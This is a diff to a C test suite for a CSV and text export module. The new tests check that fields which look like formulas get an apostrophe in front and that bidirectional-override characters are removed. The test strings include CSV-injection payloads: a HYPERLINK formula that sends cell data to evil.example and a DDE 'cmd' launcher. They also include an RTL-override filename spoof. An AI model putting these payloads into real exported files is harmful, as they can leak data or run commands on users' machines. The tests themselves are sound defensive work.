@@ -9,6 +9,7 @@
 #include <uniwidth.h>
 
 #include "base/base.h"
+#include "base/buf.h"
 #include "base/tz.h"
 #include "store/store.h"
 #include "core/metrics.h"
@@ -136,13 +137,34 @@ static const char *csv_values[] = {
 	"tab\there",
 	CJK_NAME,
 	"",
+	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	"=cmd|' /C calc'!A0",
+	"+1+1",
+	"-2+3",
+	"@SUM(1,2)",
+	"\t=1+1",
+	"\r=1+1",
+	"'already quoted",
 };
+
+/* What a field must read back as: an apostrophe before a formula's first character. */
+static char *
+csv_want(const char *value)
+{
+	char	*want;
+
+	if (value[0] != '\0' && strchr("=+-@\t\r", value[0]) != NULL)
+		xasprintf(&want, "'%s", value);
+	else
+		want = xstrdup(value);
+	return want;
+}
 
 START_TEST(test_csv_roundtrip)
 {
 	const char	*value = csv_values[_i], *p;
 	struct venue	 v = mkvenue("1234567", value, value, "ward,1", "+84912345678", 1);
-	char		 fields[16][512], *doc;
+	char		 fields[16][512], *doc, *want = csv_want(value);
 	size_t		 len;
 
 	doc = render_venues(EXPORT_CSV, &v, 1, &len);
@@ -153,13 +175,15 @@ START_TEST(test_csv_roundtrip)
 	ck_assert_str_eq(fields[0], "code");
 	ck_assert_int_eq(csv_record(&p, fields, 16), 9);
 	ck_assert_str_eq(fields[0], "1234567");
-	ck_assert_str_eq(fields[1], value);
-	ck_assert_str_eq(fields[2], value);
+	ck_assert_str_eq(fields[1], want);
+	ck_assert_str_eq(fields[2], want);
 	ck_assert_str_eq(fields[3], "ward,1");
-	ck_assert_str_eq(fields[6], "+84912345678");
+	/* A number stays text a spreadsheet shows, not one it adds up. */
+	ck_assert_str_eq(fields[6], "'+84912345678");
 	ck_assert_str_eq(fields[7], "1");
 	ck_assert_str_eq(fields[8], T0_ISO);
 	ck_assert_str_eq(p, "");
+	free(want);
 	free(doc);
 }
 END_TEST
@@ -177,6 +201,18 @@ static const struct {
 	{ PHO_THIN, PHO_THIN },
 	{ "semi;colon", "semi;colon" },
 	{ "'single'", "'single'" },
+	/* Formulas get an apostrophe first, inside the quotes if quoted. */
+	{ "=1+1", "'=1+1" },
+	{ "+84912345678", "'+84912345678" },
+	{ "-1", "'-1" },
+	{ "@SUM(A1)", "'@SUM(A1)" },
+	{ "\tx", "'\tx" },
+	{ "\rx", "\"'\rx\"" },
+	{ "=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"" },
+	{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+	{ "a=1+1", "a=1+1" },
+	{ " =1", " =1" },
+	{ "84912345678", "84912345678" },
 };
 
 START_TEST(test_csv_exact)
@@ -193,6 +229,32 @@ START_TEST(test_csv_exact)
 	ck_assert_uint_eq(len, strlen(want));
 	free(want);
 	free(doc);
+}
+END_TEST
+
+/* Every ASCII first character: the apostrophe comes before exactly the six. */
+START_TEST(test_csv_field_first)
+{
+	struct buf	 b = { NULL, 0, 0 };
+	char		 in[8], want[16];
+	int		 c = _i + 1, formula;
+
+	snprintf(in, sizeof in, "%c1+1", c);
+	formula = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' ||
+	    c == '\r';
+	if (c == '"')
+		snprintf(want, sizeof want, "\"\"\"1+1\"");
+	else if (c == ',' || c == '\n')
+		snprintf(want, sizeof want, "\"%c1+1\"", c);
+	else if (c == '\r')
+		snprintf(want, sizeof want, "\"'\r1+1\"");
+	else
+		snprintf(want, sizeof want, "%s%c1+1", formula ? "'" : "", c);
+	buf_add(&b, "", 0);
+	export_csv_field(&b, in);
+	ck_assert_msg(b.len == strlen(want) && memcmp(b.p, want, b.len) == 0,
+	    "first character 0x%02x: got \"%.*s\"", c, (int)b.len, b.p);
+	free(b.p);
 }
 END_TEST
 
@@ -506,7 +568,7 @@ START_TEST(test_text_alignment)
 {
 	static const char	*names[] = {
 		PHO_THIN, HANG_BAC, TRAN_HUNG_DAO, NFD_NGUYEN, CJK_NAME, "ASCII only",
-		"new\nline and\ttab", "",
+		"new\nline and\ttab", "", "Shop\xe2\x80\xaegnp.exe\xe2\x80\x8b",
 	};
 	struct venue		 v[nitems(names)];
 	char			*doc, *line, *nl;
@@ -543,6 +605,9 @@ START_TEST(test_text_alignment)
 	ck_assert_uint_eq(lines, nitems(names) + 2);
 	ck_assert_ptr_nonnull(strstr(doc, TRAN_HUNG_DAO));
 	ck_assert_ptr_nonnull(strstr(doc, NFD_NGUYEN));
+	/* A bidirectional override stored from before is not shown. */
+	ck_assert_ptr_nonnull(strstr(doc, "Shopgnp.exe "));
+	ck_assert_ptr_null(strstr(doc, "\xe2\x80"));
 	free(doc);
 }
 END_TEST
@@ -585,8 +650,8 @@ START_TEST(test_inactive)
 	export_inactive(e, &v, T0);
 	doc = export_finish(e, &len);
 	ck_assert_str_eq(doc, BOM "code,venue,address,ward,kind,owner,last_checkin\r\n"
-	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,+84912345678,\r\n"
-	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,+84912345678,"
+	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,'+84912345678,\r\n"
+	    "1234567," PHO_THIN ",13 L\xc3\xb2 S\xc5\xA9," HANG_BAC ",shop,'+84912345678,"
 	    T0_ISO "\r\n");
 	free(doc);
 
@@ -755,6 +820,7 @@ export_suite(void)
 	tcase_add_checked_fixture(tc, setup, NULL);
 	tcase_add_loop_test(tc, test_csv_roundtrip, 0, nitems(csv_values));
 	tcase_add_loop_test(tc, test_csv_exact, 0, nitems(csv_exact));
+	tcase_add_loop_test(tc, test_csv_field_first, 0, 127);
 	tcase_add_test(tc, test_csv_empty);
 	tcase_add_loop_test(tc, test_kind_header, 0, nitems(kind_headers));
 	tcase_add_test(tc, test_inactive);
